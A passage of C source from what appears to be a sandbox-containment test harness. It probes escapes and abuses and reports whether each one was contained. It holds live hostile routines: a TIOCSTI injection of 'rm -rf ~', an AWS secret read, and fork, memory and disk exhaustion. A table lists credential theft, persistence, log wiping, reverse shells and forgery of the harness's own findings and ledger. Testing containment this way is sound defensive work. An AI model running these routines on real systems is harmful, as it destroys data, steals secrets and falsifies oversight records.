DEED(accounting, looked_at(syscall(SYS_acct, "/nowhere/at/all"), ENOENT, ENOENT))

static int kernel_ring(void)
{
	static char text[4096];

	return TRY(syscall(SYS_syslog, 3, text, sizeof(text)));
}

DEED(hidden_memory, mmap(NULL, MIB, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0) == MAP_FAILED ? errno : 0)

static int merged_memory(void)
{
	static char page[8192] __attribute__((aligned(4096)));

	return TRY(madvise(page, 4096, MADV_MERGEABLE));
}

DEED(many_terminals, TRY(open("/dev/ptmx", O_RDWR | O_NOCTTY)))

static int take_lease(void)
{
	int fd = open(in_workspace(), O_RDWR | O_CREAT | O_CLOEXEC, 0600);

	return fd < 0 ? errno : TRY(fcntl(fd, F_SETLEASE, F_WRLCK));
}

static int directory_signals(void)
{
	int fd = open(workspace, O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	return fd < 0 ? errno : TRY(fcntl(fd, F_NOTIFY, 1));
}

/* ---- leaks ---------------------------------------------------------------------------------------- */

static int environment(void)
{
	const char *key = getenv("AWS_SECRET_ACCESS_KEY");

	errno = ENOENT;
	return say_bytes(key, key ? (ssize_t)strlen(key) : -1);
}

static int shared_segment(void)
{
	char *at = shmat((int)number("segment"), NULL, SHM_RDONLY);

	return at == (char *)-1 ? errno : say_bytes(at, SECRET_LENGTH);
}

static int message_queue(void)
{
	long id = syscall(SYS_msgget, IPC_PRIVATE, 0600);

	return id < 0 ? errno : TRY(syscall(SYS_msgctl, id, IPC_RMID, NULL));
}

static int semaphores(void)
{
	long id = syscall(SYS_semget, IPC_PRIVATE, 1, 0600);

	return id < 0 ? errno : TRY(syscall(SYS_semctl, id, 0, IPC_RMID, 0));
}

static int posix_queue(void)
{
	if (syscall(SYS_mq_open, "attempts", O_CREAT | O_RDWR, 0600, NULL) < 0)
		return errno;
	return TRY(syscall(SYS_mq_unlink, "attempts"));
}

static int shared_directory(void)
{
	char path[64];

	snprintf(path, sizeof(path), "/dev/shm/attempts-%s", value("tag"));
	return create_at(path, "owned\n");
}

/* ---- the terminal ------------------------------------------------------------------------------------ */

static int type_ahead(void)
{
	static const char line[] = "rm -rf ~\n";
	int fd = open("/dev/tty", O_RDWR | O_CLOEXEC), i;

	for (i = 0; line[i] != '\0'; i++)
		if (ioctl(fd < 0 ? 0 : fd, TIOCSTI, line + i) != 0)
			return errno;
	return 0;
}

static int paint_terminal(void)
{
	return write_fd(open("/dev/tty", O_WRONLY | O_CLOEXEC), "\033]0;owned\007");
}

/* ---- resources: in a run of their own, with a figure that a host can bear ----------------------------- */

/* What was taken is held for a while: a tier may look at it now and then only. */
static int many(const char *what, long got, long wanted, int error)
{
	if (!number("hasty"))
		nap(400);
	snprintf(detail, sizeof(detail), "%ld %s", got, what);
	return got >= wanted ? 0 : error ? error : EAGAIN;
}

static int with_children(int asleep)
{
	static pid_t child[300];
	long n, error = 0;

	for (n = 0; n < (long)COUNT(child); n++) {
		child[n] = fork();
		error = errno;
		if (child[n] < 0)
			break;
		while (child[n] == 0 && asleep)
			nap(1000);
		if (child[n] == 0)
			_exit(0);
	}
	error = many("processes", n, (long)COUNT(child), (int)error);
	for (long i = 0; i < n; i++)
		kill(child[i], SIGKILL);
	return (int)error;
}

DEED(fork_bomb, with_children(1))
DEED(zombies, with_children(0))

static void *idle(void *unused)
{
	for (;;)
		nap(1000);
	return unused;
}

static int thread_bomb(void)
{
	pthread_attr_t small;
	pthread_t t;
	long n;
	int error = 0;

	pthread_attr_init(&small);
	pthread_attr_setstacksize(&small, 16384);
	for (n = 0; n < 300 && (error = pthread_create(&t, &small, idle, NULL)) == 0; n++)
		;
	return many("threads", n, 300, error);
}

static long cpu_ms(clockid_t clock)
{
	struct timespec t;

	clock_gettime(clock, &t);
	return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

static void *mine(void *unused)
{
	while (cpu_ms(CLOCK_PROCESS_CPUTIME_ID) < 1600)
		for (volatile int i = 0; i < 100000; i++)
			;
	return unused;
}

static int miner(void)
{
	pthread_t t[4];
	size_t i;

	for (i = 0; i < COUNT(t); i++)
		if (pthread_create(&t[i], NULL, mine, NULL) != 0)
			return EAGAIN;
	for (i = 0; i < COUNT(t); i++)
		pthread_join(t[i], NULL);
	return many("ms of CPU time", cpu_ms(CLOCK_PROCESS_CPUTIME_ID), 1600, 0);
}

/* Eighty children of 20 ms, whose ends nobody waits for. */
static int hidden_miner(void)
{
	long n;

	signal(SIGCHLD, SIG_IGN);
	for (n = 0; n < 80; n++) {
		pid_t p = fork();
		if (p == 0) {
			while (cpu_ms(CLOCK_PROCESS_CPUTIME_ID) < 20)
				;
			_exit(0);
		}
		while (wait(NULL) > 0)
			;
	}
	return many("children of 20 ms", n, 80, 0);
}

static long eat(long mib)
{
	long n;
	char *p;

	for (n = 0; n < mib; n++) {
		p = mmap(NULL, MIB, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (p == MAP_FAILED)
			break;
		memset(p, 1, MIB);
	}
	return n;
}

static int memory_hog(void)
{
	long n = eat(150);

	return many("MiB", n, 150, ENOMEM);
}

/* Ten processes, of which none has much. */
static int memory_spread(void)
{
	int status, bad = 0;

	for (int i = 0; i < 10; i++)
		if (fork() == 0) {
			long n = eat(15);
			nap(700);
			_exit(n < 15);
		}
	while (wait(&status) > 0)
		bad += status != 0;
	return many("processes of 15 MiB", 10 - bad, 10, ENOMEM);
}

static int fill(const char *below)
{
	static char block[MIB];
	int fd = open(path_of(below, current->name), O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
	long n;

	if (fd < 0)
		return errno;
	for (n = 0; n < 40 && write(fd, block, MIB) == (ssize_t)MIB; n++)
		;
	return many("MiB", n, 40, errno);
}

DEED(fill_workspace, fill(workspace))
DEED(fill_temporary, fill(temporary))

static int large_file(void)
{
	int fd = open(in_workspace(), O_WRONLY | O_CREAT | O_CLOEXEC, 0600);

	signal(SIGXFSZ, SIG_IGN);
	return fd < 0 ? errno : TRY(pwrite(fd, "x", 1, 100 * MIB));
}

static int many_files(void)
{
	char name[32];
	long n;
	int fd = 0, error = 0;

	if (mkdir(in_workspace(), 0700) != 0 || chdir(in_workspace()) != 0)
		return errno;
	for (n = 0; n < 20000 && fd >= 0; n++) {
		snprintf(name, sizeof(name), "%ld", n);
		fd = open(name, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
		error = errno;
		close(fd);
	}
	return many("files", fd < 0 ? n - 1 : n, 20000, error);
}

static int many_descriptors(void)
{
	long n;

	for (n = 0; n < 600 && dup(1) >= 0; n++)
		;
	return many("descriptors", n, 600, errno);
}

static int hang(void)
{
	for (int s = 1; s <= 64; s++)
		signal(s, SIG_IGN);
	nap(900);
	return 0;
}

/* Somebody else would have to wake it; here it is its child, later. */
static int stop(void)
{
	pid_t me = getpid();

	if (child() == 0) {
		nap(900);
		kill(me, SIGCONT);
		_exit(0);
	}
	kill(me, SIGSTOP);
	return 0;
}

/* Stays behind, with the pipes open: who looks for the tag in what runs sees it. */
static int stay_behind(void)
{
	if (fork() != 0)
		return 0;
	syscall(SYS_setsid);
	if (fork() != 0)
		_exit(0);
	nap(8000);
	_exit(0);
}

static int flood(void)
{
	static char line[1024];
	long n;

	memset(line, 'x', sizeof(line));
	line[sizeof(line) - 1] = '\n';
	for (n = 0; n < 12 * 1024 && write(1, line, sizeof(line)) == (ssize_t)sizeof(line); n++)
		;
	return many("KiB", n, 12 * 1024, 0);
}

/* ---- the table --------------------------------------------------------------------------------------------- */

static const struct attempt table[] = {
	/* what lies on a developer's machine */
	{ "files", "ssh-key", "theft of ssh keys (event-stream, ctx)", "all hosts of the user", PLAIN, STOLEN, ".ssh/id_ed25519", steal_target },
	{ "files", "shadow", "reading /etc/shadow", "all passwords", PLAIN, STOLEN, "etc/shadow", steal_target },
	{ "files", "npm-token", "npm postinstall that reads ~/.npmrc (Shai-Hulud)", "packages in the user's name", PLAIN, STOLEN, ".npmrc", steal_target },
	{ "files", "cloud-keys", "reading ~/.aws/credentials", "the cloud account", PLAIN, STOLEN, ".aws/credentials", steal_target },
	{ "files", "pod-token", "reading a pod's service account", "the cluster", PLAIN, STOLEN, "run/secrets/kubernetes.io/serviceaccount/token", steal_target },
	{ "files", "git-credentials", "reading ~/.git-credentials", "the repositories", PLAIN, STOLEN, ".git-credentials", steal_target },
	{ "files", "wallet-sweep", "listing directories for wallets (s1ngularity)", "whatever is found", PLAIN, STOLEN, "wallet.dat", sweep },
	{ "files", "users", "reading /etc/passwd", "who is there", PLAIN, NOTHING, NULL, passwd },
	{ "files", "path-handle", "an O_PATH descriptor, which few filters and recorders expect", "what is there; a recorder that fails", PLAIN, NOTHING, "f", path_handle },
	{ "files", "dot-dot", "zip slip: ../../..", "any file", PLAIN, STOLEN, "secret", dotdot },
	{ "files", "proc-root", "/proc/self/root", "any file", PLAIN, STOLEN, "secret", proc_root },
	{ "files", "victim-root", "/proc/PID/root of another", "any file", PLAIN, STOLEN, "secret", victim_root },
	{ "files", "link-out", "a symbolic link out of the workspace", "any file", PLAIN, STOLEN, "secret", symlink_out },
	{ "files", "link-write", "writing through a link out of the workspace (CVE-2021-30465)", "any file", PLAIN, FILES, "f", symlink_write },
	{ "files", "hard-link", "a hard link to a file of the host's", "any file of the disk", PLAIN, STOLEN, "secret", hardlink_out },
	{ "files", "rename-in", "moving a file of the host's in", "taken and gone", PLAIN, STOLEN, "secret", rename_in },
	{ "files", "shocker", "shocker: open_by_handle_at", "any file of the disk", ROOT, STOLEN, "secret", open_handle },
	{ "files", "raw-disk", "reading the disk itself", "every file", ROOT, NOTHING, NULL, raw_disk },
	{ "files", "disk-node", "mknod of the disk", "every file", ROOT, FILES, "+disk", device_target },
	{ "files", "init-root", "/proc/1/root", "the host's tree", ROOT, NOTHING, NULL, init_root },
	/* what changes it */
	{ "files", "authorized-keys", "a key added to ~/.ssh/authorized_keys", "a way back in", PLAIN, FILES, ".ssh/authorized_keys", append_target },
	{ "files", "shell-start", "a line added to ~/.bashrc", "runs at login", PLAIN, FILES, ".bashrc", append_target },
	{ "files", "cron-drop", "a file in /etc/cron.d", "runs every minute", PLAIN, FILES, "+etc/cron.d/update", create_target },
	{ "files", "at-drop", "a job in the at spool", "runs later", PLAIN, FILES, "+var/spool/at/a0000101", create_target },
	{ "files", "user-unit", "a unit in ~/.config/systemd/user", "runs at login", PLAIN, FILES, "+.config/systemd/user/update.service", create_target },
	{ "files", "preload", "LD_PRELOAD into the host: /etc/ld.so.preload", "runs in every program", PLAIN, FILES, "+etc/ld.so.preload", create_target },
	{ "files", "git-hook", "a hook in .git/hooks", "runs at the next commit", PLAIN, FILES, "+.git/hooks/pre-commit", create_target },
	{ "files", "workflow", "a workflow added to the project (tj-actions)", "runs in CI", PLAIN, FILES, "+.github/workflows/x.yml", create_target },
	{ "files", "path-hijack", "a program before others in the PATH", "runs for ls", PLAIN, FILES, "+bin/ls", create_target },
	{ "files", "chmod", "chmod 0777 of a file of the host's", "others may write it", PLAIN, FILES, "f", chmod_target },
	{ "files", "set-uid-drop", "a set-uid file left behind", "a way back in", PLAIN, FILES, "f", setuid_target },
	{ "files", "chown", "chown of a file of the host's", "taken over", ROOT, FILES, "f", chown_target },
	{ "files", "truncate", "emptying a log", "no traces", PLAIN, FILES, "var/log/auth.log", truncate_target },
	{ "files", "time-stamp", "an old date for a new file", "no traces", PLAIN, FILES, "f", touch_target },
	{ "files", "unlink", "a wiper: unlink", "gone", PLAIN, FILES, "f", unlink_target },
	{ "files", "make-directory", "mkdir in the host's tree", "squatting", PLAIN, FILES, "+d", make_directory },
	{ "files", "remove-directory", "rmdir in the host's tree", "gone", PLAIN, FILES, "+d/", remove_directory },
	{ "files", "attribute", "setxattr on a file of the host's", "a mark, a capability", PLAIN, FILES, "f", set_attribute },
	{ "files", "fifo-squat", "a FIFO where a file is expected", "who opens it hangs", PLAIN, FILES, "+f", fifo_target },
	{ "files", "socket-squat", "a socket where a service's is expected", "speaks in its name", PLAIN, FILES, "+s", socket_target },
	{ "files", "input-change", "changing the input after it was read", "the operator's tree", PLAIN, FILES, "input/f", overwrite_given },
	{ "files", "task-change", "changing the task after it was read", "another task", PLAIN, FILES, "task.json", overwrite_given },
	{ "files", "shared-memory-file", "a file in /dev/shm", "memory that stays", PLAIN, NOTHING, NULL, shared_directory },
	/* what it may execute */
	{ "integrity", "write-bin", "write to /bin", "runs for sh", PLAIN, NOTHING, NULL, write_bin },
	{ "integrity", "runtime-exe", "runc /proc/self/exe overwrite (CVE-2019-5736)", "the runtime itself", PLAIN, FILES, "+runtime", runtime_exe },
	{ "integrity", "dropper", "a second stage, written and executed", "code nobody verified", PLAIN, NOTHING, NULL, run_workspace },
	{ "integrity", "dropper-tmp", "the same in /tmp (Kinsing)", "code nobody verified", PLAIN, NOTHING, NULL, run_temporary },
	{ "integrity", "memfd-exec", "cryptominer via memfd exec", "code that is in no file", PLAIN, NOTHING, NULL, run_memory },
	{ "integrity", "host-shell", "executing the host's /bin/sh", "all tools of the host", PLAIN, NOTHING, NULL, run_shell },
	{ "integrity", "forged-finding", "forge its own findings", "a report that lies", PLAIN, FILES, "findings.jsonl", forge },
	{ "integrity", "forged-ledger", "forge its own ledger", "a report that lies", PLAIN, FILES, "ledger.jsonl", forge },
	{ "integrity", "forged-journal", "forge the journal", "a report that lies", PLAIN, FILES, "journal/events.jsonl", forge },
	{ "integrity", "leaked-ledger", "writing on a descriptor left open", "a report that lies", PLAIN, FILES, "ledger.jsonl", leaked_ledger },
	/* leaks */
	{ "leaks", "leaked-directory", "runc's leaked descriptor (CVE-2024-21626)", "any file", PLAIN, STOLEN, "secret", leaked_directory },
	{ "leaks", "leaked-file", "reading a descriptor left open", "what the caller had open", PLAIN, STOLEN, "secret", leaked_file },
	{ "leaks", "environment", "reading the environment (Codecov)", "the keys of the CI", PLAIN, STOLEN, NULL, environment },
	{ "leaks", "argument-sweep", "reading everybody's arguments", "passwords on command lines", PLAIN, STOLEN, NULL, arguments_of_all },
	{ "leaks", "init-environment", "/proc/1/environ", "a container's secrets", ROOT, NOTHING, NULL, init_environment },
	{ "leaks", "segment", "another's shared memory, System V", "what is in it", PLAIN, STOLEN, NULL, shared_segment },
	{ "leaks", "symbols", "/proc/kallsyms", "where the kernel is", PLAIN, NOTHING, NULL, kallsyms },
	{ "leaks", "mounts", "/proc/self/mountinfo (deepce)", "how to get out", PLAIN, NOTHING, NULL, mountinfo },
	{ "leaks", "routes-file", "/proc/net/route", "the network", PLAIN, NOTHING, NULL, interfaces },
	{ "leaks", "sysfs", "/sys", "the machine", PLAIN, NOTHING, NULL, sysfs },
	{ "leaks", "kernel-log", "/dev/kmsg", "addresses, other's crashes", PLAIN, NOTHING, NULL, kernel_log },
	{ "leaks", "kernel-ring", "syslog(2)", "addresses, other's crashes", PLAIN, NOTHING, NULL, kernel_ring },
	{ "leaks", "physical-memory", "/dev/mem", "all memory", ROOT, NOTHING, NULL, physical_memory },
	/* other processes */
	{ "processes", "signal-victim", "signals to the host: kill", "services end", PLAIN, TOLD, NULL, signal_victim },
	{ "processes", "signal-group", "kill of a process group", "services end", PLAIN, TOLD, NULL, signal_group },
	{ "processes", "signal-queued", "sigqueue", "services end", PLAIN, TOLD, NULL, signal_queued },
	{ "processes", "signal-pidfd", "pidfd_send_signal", "services end", PLAIN, TOLD, NULL, signal_pidfd },
	{ "processes", "signal-thread", "tgkill", "services end", PLAIN, TOLD, NULL, signal_thread },
	{ "processes", "signal-by-pipe", "F_SETOWN: the kernel signals for it", "services end", PLAIN, TOLD, NULL, signal_by_pipe },
	{ "processes", "trace-victim", "ptrace of a process of the same user", "its memory", PLAIN, STOLEN, NULL, trace_victim },
	{ "processes", "trace-parent", "ptrace the parent", "the watch's rights", PLAIN, NOTHING, NULL, trace_parent },
	{ "processes", "read-memory", "process_vm_readv (mimipenguin)", "its memory", PLAIN, STOLEN, NULL, read_memory },
	{ "processes", "write-memory", "process_vm_writev", "its code", PLAIN, TOLD, NULL, write_memory },
	{ "processes", "proc-memory", "/proc/PID/mem", "its memory", PLAIN, STOLEN, NULL, proc_memory },
	{ "processes", "proc-environment", "/proc/PID/environ", "its secrets", PLAIN, STOLEN, NULL, proc_environment },
	{ "processes", "proc-arguments", "/proc/PID/cmdline", "its secrets", PLAIN, STOLEN, NULL, proc_arguments },
	{ "processes", "proc-descriptor", "/proc/PID/fd", "its files", PLAIN, STOLEN, NULL, proc_descriptor },
	{ "processes", "steal-descriptor", "pidfd_getfd", "its files", PLAIN, STOLEN, NULL, steal_descriptor },
	{ "processes", "nice-victim", "setpriority of another", "starved", PLAIN, STATE, NULL, nice_victim },
	{ "processes", "limit-victim", "prlimit of another", "starved", PLAIN, STATE, NULL, limit_victim },
	{ "processes", "oom-victim", "oom_score_adj of another", "the first to be killed", PLAIN, STATE, NULL, oom_victim },
	{ "processes", "pin-victim", "sched_setaffinity of another", "starved", PLAIN, STATE, NULL, pin_victim },
	{ "processes", "policy-victim", "sched_setscheduler of another", "starved", PLAIN, STATE, NULL, idle_victim },
	{ "processes", "compare-victim", "kcmp", "the kernel's addresses, in order", PLAIN, NOTHING, NULL, compare_victim },
	{ "processes", "no-randomness", "personality: no address randomization", "exploits that need no luck", PLAIN, NOTHING, NULL, no_randomness },
	{ "processes", "raise-limit", "RLIMIT raise", "no limit", PLAIN, NOTHING, NULL, raise_limit },
	{ "processes", "lock-memory", "mlock", "memory that cannot be reclaimed", PLAIN, NOTHING, NULL, lock_memory },
	{ "processes", "subreaper", "PR_SET_CHILD_SUBREAPER", "orphans are its own", PLAIN, NOTHING, NULL, subreaper },
	{ "processes", "dumpable", "PR_SET_DUMPABLE", "others may look into it", PLAIN, NOTHING, NULL, any_tracer },
	{ "processes", "real-time", "SCHED_FIFO", "nobody else runs", ROOT, NOTHING, NULL, real_time },
	{ "processes", "nicer", "setpriority -10", "others are starved", ROOT, NOTHING, NULL, nicer },
	{ "processes", "become-root", "setresuid(0)", "everything", BOXED, NOTHING, NULL, become_root },
	{ "processes", "become-group", "setresgid(0)", "everything", BOXED, NOTHING, NULL, become_group },
	{ "processes", "join-groups", "setgroups", "everything of the group", ROOT, NOTHING, NULL, join_groups },
	{ "processes", "ambient", "an ambient capability", "rights that last", BOXED, NOTHING, NULL, ambient },
	{ "processes", "type-ahead", "TIOCSTI", "typed into the caller's shell", TTY, NOTHING, NULL, type_ahead },
	{ "processes", "paint-terminal", "escape sequences to /dev/tty", "the caller's screen", TTY, NOTHING, NULL, paint_terminal },
	/* network */
	{ "network", "loopback", "TCP to a service of the host's (redis)", "the service", PLAIN, TOLD, NULL, tcp },
	{ "network", "loopback6", "the same by IPv6", "the service", PLAIN, TOLD, NULL, tcp6 },
	{ "network", "dns-exfiltration", "a datagram: what was stolen, in a name", "gone", PLAIN, TOLD, NULL, udp },
	{ "network", "docker-socket", "docker.sock", "root of the host", PLAIN, TOLD, "+docker.sock", unix_socket },
	{ "network", "abstract-socket", "an abstract socket (containerd-shim, CVE-2020-15257)", "root of the host", PLAIN, TOLD, NULL, abstract_socket },
	{ "network", "reverse-shell", "log4shell-like reverse shell", "an operator elsewhere", PLAIN, TOLD, NULL, reverse_shell },
	{ "network", "bind-shell", "a shell that listens", "an operator elsewhere", PLAIN, NOTHING, NULL, bind_shell },
	{ "network", "metadata", "cloud metadata: " METADATA " (Capital One)", "the machine's role", BOXED, NOTHING, NULL, metadata },
	{ "network", "routes", "netlink: routes", "the network", PLAIN, NOTHING, NULL, routes },
	{ "network", "uevents", "netlink: the kernel's events", "devices", PLAIN, NOTHING, NULL, uevents },
	{ "network", "audit", "netlink: audit", "false records", PLAIN, NOTHING, NULL, audit_log },
	{ "network", "nf-tables", "nf_tables netlink via userns (CVE-2024-1086)", "the kernel", BOXED, NOTHING, NULL, nf_tables },
	{ "network", "raw-icmp", "a raw socket", "forged packets", BOXED, NOTHING, NULL, raw_icmp },
	{ "network", "sniffer", "AF_PACKET (CVE-2017-7308)", "everybody's traffic", BOXED, NOTHING, NULL, sniffer },
	{ "network", "interface-down", "an interface's flags", "no network", BOXED, NOTHING, NULL, interface_down },
	{ "network", "vsock", "AF_VSOCK", "the hypervisor", PLAIN, NOTHING, NULL, vsock },
	{ "network", "crypto-socket", "AF_ALG", "the kernel", PLAIN, NOTHING, NULL, crypto_socket },
	/* mounts and namespaces */
	{ "mounts", "mount-tmpfs", "mount", "its own tree", BOXED, NOTHING, NULL, mount_tmpfs },
	{ "mounts", "mount-bind", "a bind mount of /", "the host's tree", BOXED, NOTHING, NULL, mount_bind },
	{ "mounts", "mount-proc", "a new /proc", "what was masked", BOXED, NOTHING, NULL, mount_proc },
	{ "mounts", "mount-cgroup", "CVE-2022-0492 cgroup release_agent, its first step", "a program as root", BOXED, NOTHING, NULL, mount_cgroup },
	{ "mounts", "mount-overlay", "overlayfs userns (CVE-2023-0386)", "a set-uid file", BOXED, NOTHING, NULL, mount_overlay },
	{ "mounts", "remount", "remount, to be written", "the read-only root", BOXED, NOTHING, NULL, remount },
	{ "mounts", "unmount", "umount", "what is below", BOXED, NOTHING, NULL, unmount },
	{ "mounts", "new-mount-api", "fsconfig (CVE-2022-0185)", "the kernel", BOXED, NOTHING, NULL, new_mount_api },
	{ "mounts", "clone-tree", "open_tree", "the host's tree", BOXED, NOTHING, NULL, clone_tree },
	{ "mounts", "set-mount", "mount_setattr", "the read-only root", BOXED, NOTHING, NULL, set_mount },
	{ "mounts", "pivot-root", "pivot_root", "another root", BOXED, NOTHING, NULL, pivot },
	{ "mounts", "chroot-escape", "chroot, chdir .., chroot", "the host's root", BOXED, NOTHING, NULL, chroot_escape },
	{ "mounts", "user-namespace", "unshare of a user namespace", "a kernel as root sees it", PLAIN, NOTHING, NULL, user_namespace },
	{ "mounts", "clone-namespace", "clone into namespaces", "a kernel as root sees it", PLAIN, NOTHING, NULL, clone_namespace },
	{ "mounts", "clone3-namespace", "clone3 into namespaces, past filters", "a kernel as root sees it", PLAIN, NOTHING, NULL, clone3_namespace },
	{ "mounts", "time-namespace", "a time namespace", "another clock", BOXED, NOTHING, NULL, time_namespace },
	{ "mounts", "enter-namespace", "setns (nsenter -t 1)", "the host's namespace", BOXED, NOTHING, NULL, enter_namespace },
	{ "mounts", "host-name", "sethostname", "another name in every log", BOXED, NOTHING, NULL, host_name },
	{ "mounts", "domain-name", "setdomainname", "another name", BOXED, NOTHING, NULL, domain_name },
	/* the kernel's surface */
	{ "kernel", "bpf", "bpf (CVE-2021-3490)", "the kernel", ROOT, NOTHING, NULL, bpf },
	{ "kernel", "perf-event", "perf_event_open (CVE-2013-2094)", "the kernel", PLAIN, NOTHING, NULL, perf },
	{ "kernel", "userfaultfd", "userfaultfd: a race won by waiting", "the kernel", PLAIN, NOTHING, NULL, fault_handler },
	{ "kernel", "io-uring", "io_uring (CVE-2022-29582)", "the kernel, past filters", PLAIN, NOTHING, NULL, io_uring },
	{ "kernel", "kernel-aio", "io_setup", "the kernel", PLAIN, NOTHING, NULL, kernel_aio },
	{ "kernel", "join-keyring", "keyctl keyrings (CVE-2016-0728)", "the kernel", PLAIN, NOTHING, NULL, join_keyring },
	{ "kernel", "add-key", "add_key (CVE-2017-15951)", "memory of the kernel's", PLAIN, NOTHING, NULL, add_key },
	{ "kernel", "request-key", "request_key", "a program of the host's is run", PLAIN, NOTHING, NULL, request_key },
	{ "kernel", "splice", "Dirty Pipe: splice from a host page (CVE-2022-0847)", "any file that can be read", PLAIN, NOTHING, NULL, splice_page },
	{ "kernel", "vmsplice", "vmsplice (CVE-2008-0600)", "the kernel", PLAIN, NOTHING, NULL, give_pages },
	{ "kernel", "tee", "tee", "pages of others", PLAIN, NOTHING, NULL, tee_pages },
	{ "kernel", "file-watch", "inotify", "the caller's number of them", PLAIN, NOTHING, NULL, file_watch },
	{ "kernel", "host-watch", "fanotify", "who opens what", ROOT, NOTHING, NULL, host_watch },
	{ "kernel", "file-handle", "name_to_handle_at", "half of shocker", PLAIN, NOTHING, NULL, file_handle },
	{ "kernel", "timer", "timer_create (CVE-2017-18344)", "the kernel", PLAIN, NOTHING, NULL, queue_signals },
	{ "kernel", "message-queue", "msgget (CVE-2021-22555)", "the kernel", PLAIN, NOTHING, NULL, message_queue },
	{ "kernel", "semaphores", "semget", "the caller's number of them", PLAIN, NOTHING, NULL, semaphores },
	{ "kernel", "posix-queue", "mq_open (CVE-2017-11176)", "the kernel", PLAIN, NOTHING, NULL, posix_queue },
	{ "kernel", "load-module", "init_module", "the kernel", ROOT, NOTHING, NULL, load_module },
	{ "kernel", "unload-module", "delete_module", "the kernel", ROOT, NOTHING, NULL, unload_module },
	{ "kernel", "other-kernel", "kexec_load", "another kernel", ROOT, NOTHING, NULL, other_kernel },
	{ "kernel", "restart", "reboot", "the host is gone", ROOT, NOTHING, NULL, restart },
	{ "kernel", "set-clock", "settimeofday", "certificates that are valid again", ROOT, NOTHING, NULL, set_clock },
	{ "kernel", "swap-on", "swapon", "memory on disk", ROOT, NOTHING, NULL, swap_on },
	{ "kernel", "accounting", "acct", "who runs what", ROOT, NOTHING, NULL, accounting },
	{ "kernel", "core-pattern", "core_pattern", "a program as root", ROOT, NOTHING, NULL, core_pattern },
	{ "kernel", "modprobe-path", "modprobe_path", "a program as root", ROOT, NOTHING, NULL, modprobe_path },
	{ "kernel", "sysrq", "/proc/sysrq-trigger", "the host is gone", ROOT, NOTHING, NULL, sysrq },
#ifdef __x86_64__
	{ "kernel", "segment-table", "modify_ldt (CVE-2015-5157)", "the kernel", PLAIN, NOTHING, NULL, segment_table },
	{ "kernel", "ports", "ioperm", "the hardware", ROOT, NOTHING, NULL, ports },
	{ "kernel", "all-ports", "iopl", "the hardware", ROOT, NOTHING, NULL, all_ports },
	{ "kernel", "foreign-call", "int 0x80, past filters", "every call", PLAIN, NOTHING, NULL, foreign_call },
#endif
	{ "kernel", "hidden-memory", "shared memory that is in no process", "memory nobody counts", PLAIN, NOTHING, NULL, hidden_memory },
	{ "kernel", "merged-memory", "MADV_MERGEABLE", "what others have in memory", PLAIN, NOTHING, NULL, merged_memory },
	{ "kernel", "terminals", "/dev/ptmx", "the host's number of them", PLAIN, NOTHING, NULL, many_terminals },
	{ "kernel", "lease", "F_SETLEASE", "who opens it waits", PLAIN, NOTHING, NULL, take_lease },
	{ "kernel", "directory-signals", "F_NOTIFY", "who does what", PLAIN, NOTHING, NULL, directory_signals },
	/* the last but for those in runs of their own: after it, it is another */
	{ "integrity", "own-binary", "swap of its own binary", "what was verified is not what runs next", PLAIN, NOTHING, NULL, swap_self },
	/* resources */
	{ "resources", "fork-bomb", "fork bomb", "nobody can fork", ALONE, NOTHING, NULL, fork_bomb },
	{ "resources", "thread-bomb", "threads without end", "nobody can fork", ALONE, NOTHING, NULL, thread_bomb },
	{ "resources", "zombies", "children nobody waits for", "no pid is left", ALONE, NOTHING, NULL, zombies },
	{ "resources", "miner", "crypto-miner threads", "all CPU time", ALONE, NOTHING, NULL, miner },
	{ "resources", "hidden-miner", "CPU time that is added up nowhere", "all CPU time", ALONE, NOTHING, NULL, hidden_miner },
	{ "resources", "memory-hog", "memory without end", "the host's OOM killer", ALONE, NOTHING, NULL, memory_hog },
	{ "resources", "memory-spread", "a little in each of many", "the host's OOM killer", ALONE, NOTHING, NULL, memory_spread },
	{ "resources", "workspace-fill", "tmpfs fill: the workspace", "no memory", ALONE, NOTHING, NULL, fill_workspace },
	{ "resources", "tmp-fill", "tmpfs fill: /tmp", "no memory", ALONE, NOTHING, NULL, fill_temporary },
	{ "resources", "large-file", "a sparse file of a size", "who reads it", ALONE, NOTHING, NULL, large_file },
	{ "resources", "inode-flood", "inode flood", "no file can be made", ALONE, NOTHING, NULL, many_files },
	{ "resources", "descriptor-flood", "fd exhaustion", "the host's number of them", ALONE, NOTHING, NULL, many_descriptors },
	{ "resources", "hang", "never ends, ignores every signal", "a runner that waits", ALONE, NOTHING, NULL, hang },
	{ "resources", "stop", "stops itself", "a runner that waits", ALONE, NOTHING, NULL, stop },
	{ "resources", "stay-behind", "a daemon that outlives it", "runs for ever", ALONE, NOTHING, NULL, stay_behind },
	{ "resources", "output-flood", "output without end", "the disk", ALONE, NOTHING, NULL, flood },
};

/* ---- making them ------------------------------------------------------------------------------------------- */

static const char *error_name(int error)
{
	static char other[32];

	switch (error) {
#define E(name) case name: return #name;
	E(EPERM) E(ENOENT) E(EACCES) E(ENOSYS) E(EROFS) E(EINVAL) E(EFAULT) E(ESRCH) E(ENXIO)
	E(EBADF) E(EAGAIN) E(ENOSPC) E(EFBIG) E(EMFILE) E(ENOMEM) E(ECONNREFUSED) E(ENODATA)
	E(ETXTBSY) E(EXDEV) E(EEXIST) E(ENOTDIR) E(EIO) E(EOPNOTSUPP) E(EPROTONOSUPPORT)
	E(EAFNOSUPPORT) E(ENODEV) E(ENETUNREACH) E(EBUSY) E(ENOTTY) E(EADDRNOTAVAIL)
#undef E
	}
	snprintf(other, sizeof(other), "error %d", error);
	return other;
}

/* A namespace for what is mounted and called, so that the next is not spoilt. */
static void step_aside(void)
{
	if (in_box && (unshare(CLONE_NEWNS | CLONE_NEWUTS) != 0 ||
	    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0))
		fprintf(stderr, "attempts: no namespace to step aside: %s\n", strerror(errno));
}

static _Noreturn void make(const struct attempt *a)
{
	int error;

	current = a;
	step_aside();
	error = a->make();
	if (error == 0)
		printf("%s\tsucceeded: %s\n", a->name, detail);
	else
		printf("%s\tcontained: %s%s%s\n", a->name, error_name(error), detail[0] ? " at " : "", detail);
	fflush(stdout);
	_exit(0);
}

/* In a process of its own: what succeeds must not spoil the next. */
static void make_apart(const struct attempt *a)
{
